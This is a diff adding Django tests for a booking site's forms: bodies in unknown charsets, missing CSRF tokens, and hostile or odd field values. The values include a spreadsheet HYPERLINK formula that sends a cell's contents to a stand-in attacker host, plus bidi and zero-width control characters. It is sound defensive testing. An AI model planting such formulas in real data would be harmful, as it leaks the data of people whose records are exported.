@@ -8,6 +8,7 @@ import datetime
 from urllib.parse import quote
 
 import pytest
+from django.test import Client
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -181,3 +182,64 @@ def test_bytes_that_are_not_utf8(client, world, raw):
         response = client.generic("POST", path, body, content_type="application/x-www-form-urlencoded")
         assert_safe(response, saved_before=before, allowed_to_save=lambda r: False)
     assert client.get("/id/search/?q=" + quote(raw, safe="")).status_code < 500
+
+
+# Django reads form bodies as UTF-8 only; a charset it does not know is read as UTF-8.
+CHARSETS = ["utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "shift_jis"]
+FORM_PATHS = ["/id/booking/kelompok-uji/", "/id/buddy/buddy-uji/mentee/", "/admin/login/"]
+
+
+@pytest.mark.parametrize("charset", CHARSETS)
+@pytest.mark.parametrize("path", FORM_PATHS)
+def test_a_body_in_another_charset_gets_the_400_page(world, charset, path):
+    # CSRF checks on, as in production: Django's own error handlers read the body again here.
+    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
+    client.get("/admin/login/")  # the CSRF cookie
+    body = f"csrfmiddlewaretoken={client.cookies['csrftoken'].value}&name=Siti&email=siti@contoh.id"
+    before = records()
+    response = client.generic(
+        "POST",
+        path,
+        body.encode("utf-16") if charset.startswith("utf-16") else body.encode(),
+        content_type=f"application/x-www-form-urlencoded; charset={charset}",
+    )
+    assert response.status_code == 400, response.status_code
+    assert "tidak dapat membaca" in response.content.decode()
+    assert "could not read" in response.content.decode()
+    assert records() == before
+
+
+FORMULAS_AND_CONTROLS = [
+    '=HYPERLINK("https://evil.example/?d="&A2,"Klik")',
+    "+62 812",
+    "-1+1",
+    "@SUM(A1)",
+    "0812\x0b\x01",
+    "Siti\u202eahmaR",
+    "Si\u200bti",
+    "\u2066Budi\u2069",
+    ("a" * 250) + "@contoh.id",
+    "x@" + ("a" * 260) + ".id",
+]
+
+
+@pytest.mark.parametrize("value", FORMULAS_AND_CONTROLS)
+@pytest.mark.parametrize(
+    "field", ["name", "email", "phone", "school_class", "guardian_name", "guardian_contact"]
+)
+def test_formulas_control_characters_and_long_values_in_the_booking_form(client, world, value, field):
+    from tests.booking.test_views import form_data
+
+    before = records()
+    response = client.post("/id/booking/kelompok-uji/", form_data(world["session"], **{field: value}))
+    assert_safe(response, saved_before=before, allowed_to_save=lambda r: r.status_code == 302)
+
+
+def test_a_form_sent_without_its_security_token_gets_a_page_that_says_what_to_do(world):
+    client = Client(enforce_csrf_checks=True)
+    before = records()
+    response = client.post("/id/booking/kelompok-uji/", {"name": "Siti", "email": "siti@contoh.id"})
+    assert response.status_code == 403
+    assert "perlu dimuat ulang" in response.content.decode()
+    assert "needs to be reloaded" in response.content.decode()
+    assert records() == before
